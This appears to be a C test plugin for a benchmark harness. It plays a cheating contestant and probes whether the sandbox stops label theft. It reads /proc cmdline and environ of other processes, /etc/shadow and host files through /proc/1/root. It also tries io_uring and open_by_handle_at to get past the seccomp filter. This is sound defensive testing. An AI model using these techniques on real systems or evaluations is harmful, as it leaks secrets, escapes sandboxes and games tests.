/* steal: label theft, as a contestant who read the harness would try it.
 *
 * "files": nine steps, each recorded as BLOCKED (value = errno), PARTIAL (read,
 *   but no secret in it; value = bytes) or SUCCEEDED (a secret came back):
 *   0 /proc/<ppid>/cmdline   1 /proc/1/cmdline   2 every /proc/<pid> cmdline+environ
 *   3 <dir>/labels.json      4 <dir>/frame-cache.bin   5 <dir>/results.db
 *   6 /etc/shadow            7 /proc/1/root/<dir>/labels.json   8 /proc/<ppid>/environ
 *   A secret is MBH-SECRET (in the test's files), MBH_NEEDLE (the judge's
 *   argv[0]) or MASKBENCH_BUILD_DIR (in the judge's environment).
 * "listdir": opendir() of its own submission folder (no theft: what any plugin
 *   may do in create() to find its weights; value = entries).
 * "io_uring": io_uring_setup (an open path outside the seccomp filter's view).
 * "handle": name_to_handle_at + open_by_handle_at on <dir>/labels.json.
 * "open_by_handle": open_by_handle_at with the handle in config "handle_type" /
 *   "handle_hex" (the test computes the host's handle of labels.json).
 * <dir> is config "dir", else MBH_SECRETS_DIR (the constructor has no config). */
#include <dirent.h>
#include <fcntl.h>

#include "hostile.h"

#ifndef MBH_SECRETS_DIR
#define MBH_SECRETS_DIR "/tmp/maskbench-hostile-secrets"
#endif
#ifndef MBH_NEEDLE
#define MBH_NEEDLE "harness_hostile_test"
#endif
#ifndef SYS_io_uring_setup
#define SYS_io_uring_setup 425
#endif

/* -1 (errno set) when `path` cannot be read, else 1 when a secret is in its
 * first 64 KiB, else 0; *bytes = bytes read. */
static int read_secret(const char* path, uint32_t* bytes) {
  static char buf[65536];
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  int err = errno;
  close(fd);
  if (n < 0) {
    errno = err;
    return -1;
  }
  for (ssize_t i = 0; i < n; ++i)
    if (buf[i] == '\0') buf[i] = ' ';
  buf[n] = '\0';
  *bytes = (uint32_t)n;
  const char* needles[] = {MBH_NEEDLE, "MBH-SECRET", "MASKBENCH_BUILD_DIR"};
  for (size_t k = 0; k < sizeof needles / sizeof *needles; ++k)
    if (strstr(buf, needles[k]) != NULL) return 1;
  return 0;
}

static void step_file(const char* path, int any_content_is_secret) {
  uint32_t bytes = 0;
  int r = read_secret(path, &bytes);
  if (r < 0) {
    mbh_step(MBH_BLOCKED, (uint32_t)errno);
  } else {
    mbh_step(r || any_content_is_secret ? MBH_SUCCEEDED : MBH_PARTIAL, bytes);
  }
}

/* Lists /proc the way a contestant who knows opendir() is refused would: a plain
 * read-only open of the folder, then getdents64. */
static void step_scan_proc(void) {
  int fd = open("/proc", O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    mbh_step(MBH_BLOCKED, (uint32_t)errno);
    return;
  }
  static _Alignas(8) char buf[1 << 16];
  uint32_t pids = 0, bytes = 0;
  int found = 0;
  char path[300];
  for (long n; (n = syscall(SYS_getdents64, fd, buf, sizeof buf)) > 0;) {
    for (long at = 0; at < n;) {
      struct dirent64* e = (struct dirent64*)(buf + at);
      at += e->d_reclen;
      if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
      ++pids;
      snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
      found |= read_secret(path, &bytes) == 1;
      snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
      found |= read_secret(path, &bytes) == 1;
    }
  }
  close(fd);
  mbh_step(found ? MBH_SUCCEEDED : MBH_PARTIAL, pids);
}

static void steal_files(const mbh_state_t* s) {
  char dir[512], path[1024];
  mbh_str(s, "dir", dir, sizeof dir, MBH_SECRETS_DIR);
  snprintf(path, sizeof path, "/proc/%d/cmdline", (int)getppid());
  step_file(path, 0);
  step_file("/proc/1/cmdline", 0);
  step_scan_proc();
  const char* names[] = {"labels.json", "frame-cache.bin", "results.db"};
  for (int i = 0; i < 3; ++i) {
    snprintf(path, sizeof path, "%s/%s", dir, names[i]);
    step_file(path, 1);
  }
  step_file("/etc/shadow", 1);
  snprintf(path, sizeof path, "/proc/1/root%s/labels.json", dir);
  step_file(path, 1);
  snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
  step_file(path, 0);
}

static void open_handle(struct file_handle* h) {
  int mount_fd = open("/", O_RDONLY); /* no O_DIRECTORY: the filter refuses that flag */
  int fd = (int)syscall(SYS_open_by_handle_at, mount_fd, h, O_RDONLY);
  if (fd < 0) {
    mbh_step(MBH_BLOCKED, (uint32_t)errno);
  } else {
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf);
    mbh_step(MBH_SUCCEEDED, n > 0 ? (uint32_t)n : 0);
    close(fd);
  }
  if (mount_fd >= 0) close(mount_fd);
}

static int32_t mbh_attack(mbh_state_t* s, const char* attack, char* error, size_t capacity) {
  (void)error, (void)capacity;
  _Alignas(8) unsigned char buf[sizeof(struct file_handle) + 128] = {0};
  struct file_handle* h = (struct file_handle*)buf;
  h->handle_bytes = 128;
  if (strcmp(attack, "files") == 0) {
    steal_files(s);
  } else if (strcmp(attack, "listdir") == 0) {
    DIR* d = opendir(s ? s->dir : ".");
    uint32_t entries = 0;
    while (d != NULL && readdir(d) != NULL) ++entries;
    mbh_step(d != NULL ? MBH_PARTIAL : MBH_BLOCKED, d != NULL ? entries : (uint32_t)errno);
    if (d != NULL) closedir(d);
  } else if (strcmp(attack, "io_uring") == 0) {
    _Alignas(8) unsigned char params[256] = {0};
    long fd = syscall(SYS_io_uring_setup, 8, params);
    mbh_step(fd >= 0 ? MBH_SUCCEEDED : MBH_BLOCKED, fd >= 0 ? 0 : (uint32_t)errno);
  } else if (strcmp(attack, "handle") == 0) {
    char dir[512], path[1024];
    mbh_str(s, "dir", dir, sizeof dir, MBH_SECRETS_DIR);
    snprintf(path, sizeof path, "%s/labels.json", dir);
    int mount_id = 0;
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, path, h, &mount_id, 0) != 0) {
      mbh_step(MBH_BLOCKED, (uint32_t)errno);
    } else {
      mbh_step(MBH_PARTIAL, h->handle_bytes);
      open_handle(h);
    }
  } else if (strcmp(attack, "open_by_handle") == 0) {
    char hex[300];
    mbh_str(s, "handle_hex", hex, sizeof hex, "00000000000000000000000000000000");
    h->handle_type = (int)mbh_int(s, "handle_type", 1);
    h->handle_bytes = 0;
    for (size_t i = 0; hex[2 * i] && hex[2 * i + 1] && i < 128; ++i) {
      char byte[3] = {hex[2 * i], hex[2 * i + 1], '\0'};
      h->f_handle[i] = (unsigned char)strtoul(byte, NULL, 16);
      h->handle_bytes = (unsigned)(i + 1);
    }
    open_handle(h);
  }
  return MB_OK;
}
